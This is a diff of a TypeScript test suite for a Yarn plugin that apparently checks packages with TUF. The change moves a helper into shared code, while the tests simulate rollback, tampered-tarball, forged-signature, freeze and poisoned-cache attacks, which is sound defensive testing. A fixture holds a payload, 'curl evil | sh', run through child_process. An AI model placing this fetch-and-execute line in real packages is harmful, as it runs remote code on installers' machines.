@@ -7,7 +7,8 @@ import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { addPackageVersion, buildPackageTarball, tarballFile, targetPathFor } from '@tufpm/registry';
 import { createAttackWorld, createExpiredTimestampWorld, createSignerWorld, withMixedRoleFile, withOverLengthTimestamp } from '../src/harness/attack-worlds.js';
-import { NpmWorld, type CliResult } from '../src/harness/npm-world.js';
+import { NpmWorld } from '../src/harness/npm-world.js';
+import { refusedYarn } from '../src/harness/attacks-graph.js';
 import { YarnProject } from '../src/harness/yarn.js';
 import { publishClaimedWithOnlineKeys, rollbackTargetsPastClaimInWorld, unclaimAndPublishInBin } from '../src/harness/attacks-signer.js';
 
@@ -17,17 +18,6 @@ import { publishClaimedWithOnlineKeys, rollbackTargetsPastClaimInWorld, unclaimA
 
 const evilTarball = (name: string, version: string): Uint8Array =>
   buildPackageTarball({ name, version, files: { 'index.js': 'require("child_process").exec("curl evil | sh")\n' } });
-
-async function refused(project: YarnProject, args: string[], code: RegExp, ...also: RegExp[]): Promise<CliResult> {
-  const before = await project.state();
-  const res = await project.yarn(args);
-  assert.equal(res.code, 1, `exit code 1 expected\n${res.stdout}${res.stderr}`);
-  assert.match(res.stdout, code);
-  for (const re of also) assert.match(res.stdout, re);
-  assert.doesNotMatch(res.stdout, /Internal Error|\n\s+at /, 'a coded report, not a crash');
-  assert.deepEqual(await project.state(), before, 'nothing touched');
-  return res;
-}
 
 /** A poisoned copy of a Yarn archive: the same zip with its code replaced (archives are stored, c0). */
 function poison(zip: Buffer): Buffer {
@@ -74,9 +64,9 @@ describe('Yarn with the tufpm plugin refuses the TUF attacks', () => {
     const bare = await YarnProject.create(world, { floored: '^1.0.0' });
     const attack = await rollbackTargetsPastClaimInWorld(world, 'floored', '1.0.1');
     try {
-      await refused(project, ['install'], /TUF_ROLLBACK|TUF_PIN_ROLLBACK/);
+      await refusedYarn(project, ['install'], /TUF_ROLLBACK|TUF_PIN_ROLLBACK/);
       await project.freshMachine();
-      await refused(project, ['install'], /TUF_PIN_ROLLBACK/, /targets/, /attack: rollback of targets/);
+      await refusedYarn(project, ['install'], /TUF_PIN_ROLLBACK/, /targets/, /attack: rollback of targets/);
       // The attack is real: a project that never ran `yarn tuf init` takes the forged release.
       const taken = await bare.yarn(['install']);
       assert.equal(taken.code, 0, taken.stdout);
@@ -95,14 +85,14 @@ describe('Yarn with the tufpm plugin refuses the TUF attacks', () => {
     assert.equal(init.code, 0, init.stdout);
     await unclaimAndPublishInBin(world, 'dropclaim', '1.0.1');
     await project.freshMachine();
-    await refused(project, ['install'], /TUF_CLAIM_DROPPED/, /package dropclaim@1\.0\.1/, /attack: claim dropped/);
+    await refusedYarn(project, ['install'], /TUF_CLAIM_DROPPED/, /package dropclaim@1\.0\.1/, /attack: claim dropped/);
   });
 
   test('rejects a tampered tarball before Yarn unpacks it', async () => {
     await world.publish('victim', '1.0.0');
     await world.replaceTarball('victim', '1.0.0', evilTarball('victim', '1.0.0'));
     const project = await YarnProject.create(world, { left: '^1.0.0', victim: '1.0.0' });
-    await refused(project, ['install'], /TUF_TARBALL_MISMATCH/, /package victim@1\.0\.0/, /role unclaimed-/, /attack: tampered tarball/);
+    await refusedYarn(project, ['install'], /TUF_TARBALL_MISMATCH/, /package victim@1\.0\.0/, /role unclaimed-/, /attack: tampered tarball/);
     for (const where of ['cache', 'mirror'] as const) {
       assert.ok(!(await project.archives(where)).some((f) => f.startsWith('victim-')), `no victim archive in the ${where}`);
     }
@@ -115,7 +105,7 @@ describe('Yarn with the tufpm plugin refuses the TUF attacks', () => {
     const manifest = await project.read('package.json');
     await world.publish('added', '1.0.0');
     await world.replaceTarball('added', '1.0.0', evilTarball('added', '1.0.0'));
-    await refused(project, ['add', 'added@1.0.0'], /TUF_TARBALL_MISMATCH/, /package added@1\.0\.0/);
+    await refusedYarn(project, ['add', 'added@1.0.0'], /TUF_TARBALL_MISMATCH/, /package added@1\.0\.0/);
     assert.equal(await project.read('package.json'), manifest);
   });
 
@@ -124,7 +114,7 @@ describe('Yarn with the tufpm plugin refuses the TUF attacks', () => {
     await world.publish('lefty', '1.0.0', { righty: '^1.0.0' });
     await world.publishUnsigned('righty', '1.1.0');
     const project = await YarnProject.create(world, { lefty: '^1.0.0' });
-    await refused(project, ['install'], /TUF_PACKAGE_NOT_SIGNED/, /package righty@1\.1\.0/, /attack: arbitrary package/);
+    await refusedYarn(project, ['install'], /TUF_PACKAGE_NOT_SIGNED/, /package righty@1\.1\.0/, /attack: arbitrary package/);
   });
 
   test('rejects extraneous dependencies added to the packument by the registry', async () => {
@@ -132,9 +122,9 @@ describe('Yarn with the tufpm plugin refuses the TUF attacks', () => {
     await world.publish('yhost', '1.0.0', { right: '^1.0.0' });
     await world.addPackumentDependency('yhost', '1.0.0', 'yhelper', '^1.0.0');
     const project = await YarnProject.create(world, { yhost: '1.0.0' });
-    await refused(project, ['install'], /TUF_EXTRANEOUS_DEPENDENCY/, /package yhost@1\.0\.0/, /attack: extraneous dependencies/,
+    await refusedYarn(project, ['install'], /TUF_EXTRANEOUS_DEPENDENCY/, /package yhost@1\.0\.0/, /attack: extraneous dependencies/,
       /dependencies yhelper@\^1\.0\.0 is not declared by the signed package/);
-    // Nothing was linked (refused() compares .pnp.cjs and node_modules). yhelper is a signed package in its own
+    // Nothing was linked (refusedYarn() compares .pnp.cjs and node_modules). yhelper is a signed package in its own
     // right: its verified archive may reach Yarn's cache while yhost is being checked, as in any failed install.
   });
 
@@ -154,7 +144,7 @@ describe('Yarn with the tufpm plugin refuses the TUF attacks', () => {
     assert.notEqual(edited, lock);
     await project.write('yarn.lock', edited);
     await project.freshMachine();
-    await refused(project, ['install', '--immutable'], /TUF_EXTRANEOUS_DEPENDENCY/, /package ylhost@1\.0\.0/, /attack: extraneous dependencies/,
+    await refusedYarn(project, ['install', '--immutable'], /TUF_EXTRANEOUS_DEPENDENCY/, /package ylhost@1\.0\.0/, /attack: extraneous dependencies/,
       /dependencies ylhelper@1\.0\.0 is not declared by the signed package/);
     const check = await project.yarn(['tuf', 'verify']);
     assert.equal(check.code, 1, check.stdout);
@@ -169,14 +159,14 @@ describe('Yarn with the tufpm plugin refuses the TUF attacks', () => {
     const forged = await world.publishUnsigned('solo', '1.0.1');
     await world.forgeRoleTarget('solo', 'solo', '1.0.1', forged, [intruder.signer]);
     const project = await YarnProject.create(world, { solo: '1.0.1' });
-    await refused(project, ['install'], /TUF_THRESHOLD/, /package solo\b/, /attack: metadata not signed by enough trusted keys/);
+    await refusedYarn(project, ['install'], /TUF_THRESHOLD/, /package solo\b/, /attack: metadata not signed by enough trusted keys/);
   });
 
   test('rejects a release signed with one compromised key of a 2-of-2 package', async () => {
     const forged = await world.publishUnsigned('guarded', '1.0.1');
     await world.forgeRoleTarget('guarded', 'guarded', '1.0.1', forged, [maintainers[0]!.signer]);
     const project = await YarnProject.create(world, { guarded: '^1.0.0' });
-    await refused(project, ['install'], /TUF_THRESHOLD/, /package guarded\b/);
+    await refusedYarn(project, ['install'], /TUF_THRESHOLD/, /package guarded\b/);
   });
 
   test('rejects a release signed with a revoked maintainer key', async () => {
@@ -187,7 +177,7 @@ describe('Yarn with the tufpm plugin refuses the TUF attacks', () => {
     const forged = await world.publishUnsigned('rotated', '1.0.1');
     await world.forgeRoleTarget('rotated', 'rotated', '1.0.1', forged, [gone.signer]);
     const project = await YarnProject.create(world, { rotated: '1.0.1' });
-    await refused(project, ['install'], /TUF_THRESHOLD/, /package rotated\b/);
+    await refusedYarn(project, ['install'], /TUF_THRESHOLD/, /package rotated\b/);
   });
 
   test('rejects a snapshot rollback on a fresh machine with pins (yarn install --immutable)', async () => {
@@ -200,7 +190,7 @@ describe('Yarn with the tufpm plugin refuses the TUF attacks', () => {
     try {
       await world.writeMetadata('timestamp.json', oldTimestamp);
       await project.freshMachine();
-      await refused(project, ['install', '--immutable'], /TUF_PIN_ROLLBACK/, /role timestamp/, /attack: rollback/);
+      await refusedYarn(project, ['install', '--immutable'], /TUF_PIN_ROLLBACK/, /role timestamp/, /attack: rollback/);
     } finally {
       await world.writeMetadata('timestamp.json', current);
     }
@@ -216,20 +206,20 @@ describe('Yarn with the tufpm plugin refuses the TUF attacks', () => {
     // existing version. A fresh TUF client would accept them; the committed pins do not.
     await world.forgeRoleTarget(role, 'pinned', '1.0.0', evilTarball('pinned', '1.0.0'), await world.repo.signersFor(role));
     await project.freshMachine();
-    await refused(project, ['install', '--immutable'], /TUF_PIN_MISMATCH/, /package pinned@1\.0\.0/, /attack: substituted package/);
+    await refusedYarn(project, ['install', '--immutable'], /TUF_PIN_MISMATCH/, /package pinned@1\.0\.0/, /attack: substituted package/);
   });
 
   test('rejects mix-and-match: a role file of another version than the snapshot lists', async () => {
     await withMixedRoleFile(world, 'mixed', '1.0.1', async () => {
       const project = await YarnProject.create(world, { mixed: '1.0.1' });
-      await refused(project, ['install'], /TUF_VERSION_MISMATCH|TUF_HASH|TUF_LENGTH/, /package mixed@1\.0\.1/);
+      await refusedYarn(project, ['install'], /TUF_VERSION_MISMATCH|TUF_HASH|TUF_LENGTH/, /package mixed@1\.0\.1/);
     });
   });
 
   test('rejects over-length metadata (endless data)', async () => {
     await withOverLengthTimestamp(world, async () => {
       const project = await YarnProject.create(world, { left: '^1.0.0' });
-      await refused(project, ['install'], /TUF_LENGTH/, /attack: endless data/);
+      await refusedYarn(project, ['install'], /TUF_LENGTH/, /attack: endless data/);
     });
   });
 
@@ -240,7 +230,7 @@ describe('Yarn with the tufpm plugin refuses the TUF attacks', () => {
     await writeFile(mirrored, poison(await readFile(mirrored)));
     // Another project on the same machine: Yarn would copy the poisoned archive from the mirror unchecked.
     const second = await YarnProject.create(world, { right: '1.0.0' }, { machine: first.machine });
-    await refused(second, ['install'], /TUF_CHECKSUM_BINDING/, /package right@1\.0\.0/, /attack: poisoned cache or mirror/);
+    await refusedYarn(second, ['install'], /TUF_CHECKSUM_BINDING/, /package right@1\.0\.0/, /attack: poisoned cache or mirror/);
     // Control: plain Yarn on that machine installs the poisoned archive and runs its code.
     const plain = await YarnProject.create(world, { right: '1.0.0' }, { machine: first.machine, plugin: false });
     assert.equal((await plain.yarn(['install'])).code, 0);
@@ -254,7 +244,7 @@ describe('Yarn with the tufpm plugin refuses the TUF attacks', () => {
     const cached = await archiveOf(first.cacheFolder, 'right-npm-1.0.0-');
     await writeFile(cached, poison(await readFile(cached)));
     const second = await YarnProject.create(world, { right: '1.0.0' }, { rc, machine: first.machine });
-    await refused(second, ['install'], /TUF_CHECKSUM_BINDING/, /package right@1\.0\.0/);
+    await refusedYarn(second, ['install'], /TUF_CHECKSUM_BINDING/, /package right@1\.0\.0/);
   });
 
   test('rejects a poisoned Yarn cache whose yarn.lock checksum was edited to match', async () => {
@@ -270,7 +260,7 @@ describe('Yarn with the tufpm plugin refuses the TUF attacks', () => {
     const lock = (await project.read('yarn.lock'))!;
     assert.ok(lock.includes(oldSum));
     await project.write('yarn.lock', lock.replace(oldSum, newSum));
-    await refused(project, ['install'], /TUF_CHECKSUM_BINDING/, /package right@1\.0\.0/);
+    await refusedYarn(project, ['install'], /TUF_CHECKSUM_BINDING/, /package right@1\.0\.0/);
   });
 
   test('rejects a poisoned cache archive whose checksum a pull request also wrote into yarn.lock and tufpm-lock.json', async () => {
@@ -287,7 +277,7 @@ describe('Yarn with the tufpm plugin refuses the TUF attacks', () => {
     const pins = (await project.read('tufpm-lock.json'))!;
     assert.ok(pins.includes(oldSum), 'the pins bind the archive checksum');
     await project.write('tufpm-lock.json', pins.replace(oldSum, newSum));
-    await refused(project, ['install'], /TUF_CHECKSUM_BINDING/, /package right@1\.0\.0/);
+    await refusedYarn(project, ['install'], /TUF_CHECKSUM_BINDING/, /package right@1\.0\.0/);
   });
 
   test('rejects a poisoned cache archive of a platform-conditional package (yarn.lock keeps no checksum for it)', async () => {
@@ -301,7 +291,7 @@ describe('Yarn with the tufpm plugin refuses the TUF attacks', () => {
     assert.match((await project.read('yarn.lock'))!, /conditions: os=/);
     const cached = await archiveOf(project.cacheFolder, `native-${process.platform}-npm-1.0.0-`);
     await writeFile(cached, poison(await readFile(cached)));
-    await refused(project, ['install'], /TUF_CHECKSUM_BINDING/, new RegExp(`package native-${process.platform}@1\\.0\\.0`));
+    await refusedYarn(project, ['install'], /TUF_CHECKSUM_BINDING/, new RegExp(`package native-${process.platform}@1\\.0\\.0`));
   });
 
   test('rejects a poisoned patched archive (patch: protocol) whose yarn.lock checksum was edited to match', async () => {
@@ -334,7 +324,7 @@ describe('Yarn with the tufpm plugin refuses the TUF attacks', () => {
     const lock = (await project.read('yarn.lock'))!;
     assert.ok(lock.includes(oldSum));
     await project.write('yarn.lock', lock.replace(oldSum, newSum));
-    await refused(project, ['install'], /TUF_CHECKSUM_BINDING/, /package patchme@1\.0\.0/, /patched archive differs/);
+    await refusedYarn(project, ['install'], /TUF_CHECKSUM_BINDING/, /package patchme@1\.0\.0/, /patched archive differs/);
   });
 
   test('rejects an edited yarn.lock checksum, and yarn tuf verify reports it', async () => {
@@ -344,7 +334,7 @@ describe('Yarn with the tufpm plugin refuses the TUF attacks', () => {
     const edited = lock.replace(/(resolution: "right@npm:1\.0\.0"\n {2}checksum: 10c0\/)[0-9a-f]{8}/, '$1deadbeef');
     assert.notEqual(edited, lock);
     await project.write('yarn.lock', edited);
-    await refused(project, ['install'], /TUF_CHECKSUM_BINDING/, /package right@1\.0\.0/, /attack: poisoned cache or mirror, or an edited yarn\.lock checksum/);
+    await refusedYarn(project, ['install'], /TUF_CHECKSUM_BINDING/, /package right@1\.0\.0/, /attack: poisoned cache or mirror, or an edited yarn\.lock checksum/);
     const verify = await project.yarn(['tuf', 'verify']);
     assert.equal(verify.code, 1, verify.stdout);
     assert.match(verify.stdout, /TUF_CHECKSUM_BINDING/);
@@ -355,7 +345,7 @@ describe('Yarn with the tufpm plugin refuses the TUF attacks', () => {
     await mkdir(local, { recursive: true });
     await writeFile(join(local, 'package.json'), JSON.stringify({ name: 'local', version: '1.0.0' }));
     const project = await YarnProject.create(world, { local: `file:${local}`, right: '1.0.0' });
-    await refused(project, ['install'], /TUF_UNSAFE_SOURCE/, /package local/, /attack: unverifiable source/);
+    await refusedYarn(project, ['install'], /TUF_UNSAFE_SOURCE/, /package local/, /attack: unverifiable source/);
     await project.writeRc({ unsafeTufAllowNonRegistry: ['local'] });
     const allowed = await project.yarn(['install']);
     assert.equal(allowed.code, 0, allowed.stdout);
@@ -393,7 +383,7 @@ describe('Yarn with the tufpm plugin refuses the TUF attacks', () => {
       for (const [dep, spec] of [['gitdep', `git://${repo}`], ['remote', remote]] as const) {
         // Yarn 4.18 blocks git sources unless approvedGitRepositories allows them: allow all, so the plugin answers
         const other = await YarnProject.create(world, { [dep]: spec }, { rc: { approvedGitRepositories: ['**'] } });
-        await refused(other, ['install'], /TUF_UNSAFE_SOURCE/, new RegExp(`package ${dep}\\b`), /attack: unverifiable source/);
+        await refusedYarn(other, ['install'], /TUF_UNSAFE_SOURCE/, new RegExp(`package ${dep}\\b`), /attack: unverifiable source/);
       }
     } finally {
       daemon.kill();
@@ -427,7 +417,7 @@ describe('Yarn with the tufpm plugin refuses the TUF attacks', () => {
     await world.replaceTarball('weakened', '1.0.0', evilTarball('weakened', '1.0.0'));
     // the old spelling of unsafe-warn: it would install the tampered tarball
     const warned = await YarnProject.create(world, { weakened: '1.0.0' }, { rc: { tufMode: 'warn' } });
-    await refused(warned, ['install'], /TUF_UNSAFE_SETTING/, /unsafe-warn/);
+    await refusedYarn(warned, ['install'], /TUF_UNSAFE_SETTING/, /unsafe-warn/);
     // pointing the pins at a fresh file would drop every floor and claim of tufpm-lock.json: no such setting
     // without the unsafe name, and Yarn refuses a setting no plugin declares
     const renamed = await YarnProject.create(world, { weakened: '1.0.0' }, { rc: { tufLockfileFilename: 'other-lock.json' } });
@@ -447,7 +437,7 @@ describe('Yarn with the tufpm plugin refuses an expired timestamp (freeze)', () 
 
   test('rejects an expired timestamp (freeze attack)', async () => {
     const project = await YarnProject.create(world, { left: '^1.0.0' });
-    await refused(project, ['install'], /TUF_EXPIRED/, /timestamp v\d+ expired/, /attack: freeze/);
+    await refusedYarn(project, ['install'], /TUF_EXPIRED/, /timestamp v\d+ expired/, /attack: freeze/);
   });
 });
 
@@ -466,7 +456,7 @@ describe('Yarn with the tufpm plugin: who signs a package (maintainers offline, 
   test('rejects a new version of a claimed package published with every online key (registry compromise)', async () => {
     await publishClaimedWithOnlineKeys(world, 'seized', '1.0.1');
     const project = await YarnProject.create(world, { seized: '^1.0.0' });
-    await refused(project, ['install'], /TUF_PACKAGE_NOT_SIGNED/, /package seized@1\.0\.1/, /attack: arbitrary package/);
+    await refusedYarn(project, ['install'], /TUF_PACKAGE_NOT_SIGNED/, /package seized@1\.0\.1/, /attack: arbitrary package/);
   });
 
   test('rejects a package maintainer-signed in the pins that is now registry-signed (downgrade)', async () => {
@@ -474,13 +464,13 @@ describe('Yarn with the tufpm plugin: who signs a package (maintainers offline, 
     assert.equal((await project.yarn(['install'])).code, 0);
     assert.equal((await pinsOf(project))['downgraded@1.0.0']!.maintainerSigned, true);
     await unclaimAndPublishInBin(world, 'downgraded', '1.0.1');
-    await refused(project, ['add', 'downgraded@1.0.1'], /TUF_SIGNER_DOWNGRADE/, /package downgraded@1\.0\.1/, /attack: downgrade from maintainer signing/);
+    await refusedYarn(project, ['add', 'downgraded@1.0.1'], /TUF_SIGNER_DOWNGRADE/, /package downgraded@1\.0\.1/, /attack: downgrade from maintainer signing/);
   });
 
   test('policy requireMaintainerSigned refuses a registry-signed package', async () => {
     const rc = { tufRequireMaintainerSigned: ['*'] };
     const refusedProject = await YarnProject.create(world, { right: '1.0.0' }, { rc });
-    await refused(refusedProject, ['install'], /TUF_NOT_MAINTAINER_SIGNED/, /package right@1\.0\.0/, /attack: package not signed by its maintainers/);
+    await refusedYarn(refusedProject, ['install'], /TUF_NOT_MAINTAINER_SIGNED/, /package right@1\.0\.0/, /attack: package not signed by its maintainers/);
     const claimed = await YarnProject.create(world, { owned: '1.0.0' }, { rc: { tufRequireMaintainerSigned: ['owned', '@acme/*'] } });
     const res = await claimed.yarn(['install']);
     assert.equal(res.code, 0, `a claimed package passes the policy\n${res.stdout}`);
@@ -489,7 +479,7 @@ describe('Yarn with the tufpm plugin: who signs a package (maintainers offline, 
   test('policy minimumThreshold refuses a 1-of-1 claimed package when 2 signatures are required', async () => {
     const rc = { tufRequireMaintainerSigned: ['*'], tufMinimumThreshold: 2 };
     const single = await YarnProject.create(world, { owned: '1.0.0' }, { rc });
-    await refused(single, ['install'], /TUF_NOT_MAINTAINER_SIGNED/, /owned@1\.0\.0: its role owned needs 1 signature\(s\), policy requires at least 2/);
+    await refusedYarn(single, ['install'], /TUF_NOT_MAINTAINER_SIGNED/, /owned@1\.0\.0: its role owned needs 1 signature\(s\), policy requires at least 2/);
     const res = await (await YarnProject.create(world, { pair: '1.0.0' }, { rc })).yarn(['install']);
     assert.equal(res.code, 0, `a 2-of-2 package passes\n${res.stdout}`);
   });
